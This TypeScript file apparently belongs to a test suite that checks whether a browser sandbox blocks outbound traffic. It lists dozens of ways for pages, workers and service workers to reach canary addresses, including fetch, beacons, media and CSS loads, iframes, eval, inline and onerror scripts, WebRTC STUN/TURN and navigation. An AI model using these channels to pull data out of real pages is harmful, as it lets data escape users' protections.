import type { Addresses } from './canary.ts';

/** One way of getting something out. `run` is sent to the browser as text, so it holds everything it needs. */
export type Vector = { name: string; run: string | ((to: Addresses) => unknown) };

/** Ways that pages and threads share. */
export const THREAD_VECTORS: readonly Vector[] = [
  { name: 'fetch', run: (to) => fetch(`${to.http}fetch`) },
  { name: 'fetch-no-cors', run: (to) => fetch(`${to.http}no-cors`, { mode: 'no-cors', method: 'POST', body: 'rows' }) },
  {
    name: 'fetch-keepalive',
    run: (to) => fetch(`${to.http}keepalive`, { keepalive: true, method: 'POST', body: 'r' }),
  },
  { name: 'fetch-tls', run: (to) => fetch(`${to.https}tls`) },
  {
    name: 'xhr',
    run: (to) => {
      const xhr = new XMLHttpRequest();
      xhr.open('POST', `${to.http}xhr`);
      xhr.send('rows');
    },
  },
  {
    name: 'xhr-sync',
    run: (to) => {
      const xhr = new XMLHttpRequest();
      xhr.open('GET', `${to.http}xhr-sync`, false);
      xhr.send();
    },
  },
  { name: 'websocket', run: (to) => new WebSocket(`${to.ws}socket`) },
  { name: 'websocket-tls', run: (to) => new WebSocket(`${to.wss}socket`) },
  { name: 'eventsource', run: (to) => new EventSource(`${to.http}events`) },
  { name: 'import', run: (to) => import(/* @vite-ignore */ `${to.http}module.js`) },
  { name: 'cache-add', run: async (to) => (await caches.open('egress')).add(`${to.http}cached`) },
  { name: 'webtransport', run: (to) => new WebTransport(`https://${to.host}:${to.udp}/transport`).ready },
];

/** Ways that only threads have. */
export const WORKER_VECTORS: readonly Vector[] = [
  ...THREAD_VECTORS,
  { name: 'import-scripts', run: (to) => Reflect.get(self, 'importScripts')(`${to.http}script.js`) },
  {
    name: 'nested-blob-thread',
    run: (to) => {
      const text = `fetch(${JSON.stringify(`${to.http}nested`)})`;
      new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })));
    },
  },
  {
    name: 'nested-data-thread',
    run: (to) => new Worker(`data:text/javascript,fetch(${JSON.stringify(`${to.http}data`)})`),
  },
  { name: 'eval', run: (to) => (0, eval)(`fetch(${JSON.stringify(`${to.http}eval`)})`) },
];

/** Ways of a service worker; it cannot be replaced by a fresh one for each, and has no XMLHttpRequest. */
export const SERVICE_WORKER_VECTORS: readonly Vector[] = THREAD_VECTORS.filter(
  ({ name }) => !['xhr', 'xhr-sync', 'import'].includes(name),
);

const element = (name: string, tag: string, attributes: Readonly<Record<string, string>>): Vector => ({
  name,
  // The values are written into the function's own text: it runs elsewhere.
  run: `(to) => {
     const node = document.createElement(${JSON.stringify(tag)});
     for (const [key, value] of Object.entries(${JSON.stringify(attributes)}))
       node.setAttribute(key, value.replace('HTTP', to.http));
     document.body.append(node);
   }`,
});

const link = (name: string, rel: string, more: Readonly<Record<string, string>> = {}): Vector =>
  element(name, 'link', { rel, href: `HTTP${name}`, ...more });

const style = (name: string, text: string): Vector => ({
  name,
  run: `(to) => {
     const node = document.createElement('style');
     node.textContent = ${JSON.stringify(text)}.replace('HTTP', to.http);
     document.head.append(node);
     document.body.append(Object.assign(document.createElement('div'), { className: 'egress', textContent: 'x' }));
   }`,
});

/** Ways that only a page has. */
export const PAGE_VECTORS: readonly Vector[] = [
  ...THREAD_VECTORS,
  { name: 'beacon', run: (to) => navigator.sendBeacon(`${to.http}beacon`, 'rows') },
  element('img', 'img', { src: 'HTTPimg.png' }),
  element('img-srcset', 'img', { srcset: 'HTTPset.png 1x' }),
  element('input-image', 'input', { type: 'image', src: 'HTTPinput.png' }),
  element('video', 'video', { src: 'HTTPfilm.mp4', preload: 'auto' }),
  element('video-poster', 'video', { poster: 'HTTPposter.png' }),
  element('audio', 'audio', { src: 'HTTPsound.mp3', preload: 'auto' }),
  element('object', 'object', { data: 'HTTPobject.html' }),
  element('embed', 'embed', { src: 'HTTPembed.html' }),
  element('iframe', 'iframe', { src: 'HTTPframe.html' }),
  element('style-attribute', 'div', { style: 'width:9px;height:9px;background:url(HTTPattribute.png)' }),
  link('stylesheet', 'stylesheet'),
  link('icon', 'icon'),
  link('prefetch', 'prefetch'),
  link('preload', 'preload', { as: 'image' }),
  link('preload-fetch', 'preload', { as: 'fetch', crossorigin: '' }),
  link('modulepreload', 'modulepreload'),
  style('css-background', '.egress{width:9px;height:9px;background:url(HTTPcss-background.png)}'),
  style('css-import', '@import url(HTTPcss-import.css);'),
  style('css-font', '@font-face{font-family:egress;src:url(HTTPfont.woff2)} .egress{font-family:egress}'),
  style('css-content', '.egress::before{content:url(HTTPcontent.png)}'),
  style('css-image-set', '.egress{width:9px;height:9px;background:image-set("HTTPimage-set.png" 1x)}'),
  {
    name: 'picture',
    run: (to) => {
      const picture = document.createElement('picture');
      const source = document.createElement('source');
      source.srcset = `${to.http}picture.png`;
      picture.append(source, document.createElement('img'));
      document.body.append(picture);
    },
  },
  {
    name: 'svg-image',
    run: (to) => {
      const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
      const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
      image.setAttribute('href', `${to.http}svg.png`);
      image.setAttribute('width', '9');
      image.setAttribute('height', '9');
      svg.append(image);
      document.body.append(svg);
    },
  },
  {
    name: 'track',
    run: (to) => {
      const video = document.createElement('video');
      const track = document.createElement('track');
      video.crossOrigin = 'anonymous';
      track.src = `${to.http}track.vtt`;
      track.default = true;
      video.append(track);
      document.body.append(video);
      track.track.mode = 'showing';
    },
  },
  {
    name: 'script',
    run: (to) => document.head.append(Object.assign(document.createElement('script'), { src: `${to.http}script.js` })),
  },
  {
    name: 'script-module',
    run: (to) =>
      document.head.append(
        Object.assign(document.createElement('script'), { type: 'module', src: `${to.http}script.mjs` }),
      ),
  },
  {
    name: 'script-inline',
    run: (to) =>
      document.head.append(
        Object.assign(document.createElement('script'), {
          textContent: `fetch(${JSON.stringify(`${to.http}inline`)})`,
        }),
      ),
  },
  {
    name: 'inner-html',
    run: (to) => void (document.body.innerHTML = `<img src="${to.http}inner.png"><svg onload="1">`),
  },
  {
    name: 'event-attribute',
    run: (to) => {
      const image = document.createElement('img');
      image.setAttribute('onerror', `fetch(${JSON.stringify(`${to.http}attribute`)})`);
      image.src = 'data:image/png,none';
      document.body.append(image);
    },
  },
  {
    name: 'timer-text',
    run: (to) => setTimeout(`fetch(${JSON.stringify(`${to.http}timer`)})` as unknown as () => void, 0),
  },
  {
    name: 'blob-thread',
    run: (to) => {
      const text = `fetch(${JSON.stringify(`${to.http}blob`)}).catch(() => 0); importScripts(${JSON.stringify(`${to.http}blob.js`)})`;
      new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })));
    },
  },
  {
    name: 'shared-thread',
    run: (to) => {
      const text = `fetch(${JSON.stringify(`${to.http}shared`)})`;
      new SharedWorker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })));
    },
  },
  {
    name: 'worklet',
    run: async (to) => {
      const context = new OfflineAudioContext(1, 1, 8000);
      await context.audioWorklet.addModule(`${to.http}worklet.js`);
    },
  },
  {
    name: 'frame-document',
    run: (to) => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      const image = frame.contentDocument?.createElement('img');
      if (!image) throw new Error('no frame');
      image.src = `${to.http}frame-document.png`;
      frame.contentDocument?.body.append(image);
      return (frame.contentWindow as unknown as { fetch: typeof fetch }).fetch(`${to.http}frame-fetch`);
    },
  },
  {
    name: 'frame-srcdoc',
    run: (to) => {
      const frame = document.createElement('iframe');
      frame.setAttribute('srcdoc', `<img src="${to.http}srcdoc.png">`);
      document.body.append(frame);
    },
  },
  {
    name: 'speculation-rules',
    run: (to) =>
      document.head.append(
        Object.assign(document.createElement('script'), {
          type: 'speculationrules',
          textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [`${to.http}speculated`] }] }),
        }),
      ),
  },
  {
    name: 'ping',
    run: (to) => {
      const anchor = Object.assign(document.createElement('a'), { href: '#ping', ping: `${to.http}ping` });
      document.body.append(anchor);
      anchor.click();
    },
  },
  {
    name: 'form-post',
    run: (to) => {
      const form = Object.assign(document.createElement('form'), { method: 'post', action: `${to.http}form` });
      form.append(Object.assign(document.createElement('input'), { name: 'rows', value: '1' }));
      document.body.append(form);
      form.submit();
    },
  },
  {
    name: 'form-in-frame',
    run: (to) => {
      const frame = Object.assign(document.createElement('iframe'), { name: 'target' });
      const form = Object.assign(document.createElement('form'), { action: `${to.http}form-frame`, target: 'target' });
      document.body.append(frame, form);
      form.submit();
    },
  },
  { name: 'window-open', run: (to) => void window.open(`${to.http}opened`) },
  {
    name: 'anchor-blank',
    run: (to) => {
      const anchor = Object.assign(document.createElement('a'), { href: `${to.http}blank`, target: '_blank' });
      document.body.append(anchor);
      anchor.click();
    },
  },
  { name: 'navigate', run: (to) => void setTimeout(() => (location.href = `${to.http}navigated`), 0) },
  { name: 'navigate-replace', run: (to) => void setTimeout(() => location.replace(`${to.http}replaced`), 0) },
  {
    name: 'meta-refresh',
    run: (to) =>
      document.head.append(
        Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${to.http}refreshed` }),
      ),
  },
  {
    name: 'webrtc-stun',
    run: async (to) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${to.host}:${to.udp}` }] });
      peer.createDataChannel('rows');
      await peer.setLocalDescription(await peer.createOffer());
    },
  },
  {
    name: 'webrtc-turn-tcp',
    run: async (to) => {
      const server = { urls: `turn:${to.host}:${to.tcp}?transport=tcp`, username: 'rows', credential: 'rows' };
      const peer = new RTCPeerConnection({ iceServers: [server] });
      peer.createDataChannel('rows');
      await peer.setLocalDescription(await peer.createOffer());
    },
  },
  {
    name: 'webrtc-in-frame',
    run: async (to) => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      const inner = frame.contentWindow as unknown as { RTCPeerConnection: typeof RTCPeerConnection };
      const peer = new inner.RTCPeerConnection({ iceServers: [{ urls: `stun:${to.host}:${to.udp}` }] });
      peer.createDataChannel('rows');
      await peer.setLocalDescription(await peer.createOffer());
    },
  },
];

/** Ways of telling the host itself; addresses begin at the app's own folder. */
export const OWN_VECTORS: readonly Vector[] = [
  { name: 'own-fetch', run: () => fetch('./leak?own-fetch') },
  { name: 'own-query', run: () => fetch('./index.html?leak-own-query') },
  { name: 'own-beacon', run: () => navigator.sendBeacon('./leak?own-beacon', 'rows') },
  { name: 'own-import', run: () => import(/* @vite-ignore */ `${document.baseURI}leak.js?own-import`) },
  element('own-img', 'img', { src: './leak.png?own-img' }),
  element('own-stylesheet', 'link', { rel: 'stylesheet', href: './leak.css?own-stylesheet' }),
  element('own-icon', 'link', { rel: 'icon', href: './leak.png?own-icon' }),
  element('own-manifest', 'link', { rel: 'manifest', href: './leak.webmanifest?own-manifest' }),
  style('own-font', '@font-face{font-family:egress;src:url(./leak.woff2?own-font)} .egress{font-family:egress}'),
  {
    name: 'own-script',
    run: () => document.head.append(Object.assign(document.createElement('script'), { src: './leak.js?own-script' })),
  },
  { name: 'own-thread', run: () => new Worker('./leak.js?own-thread') },
  { name: 'own-service-worker', run: () => navigator.serviceWorker.register('./sw.js?leak-own-service-worker') },
  { name: 'own-navigation', run: () => void setTimeout(() => (location.href = './?leak-own-navigation'), 0) },
];
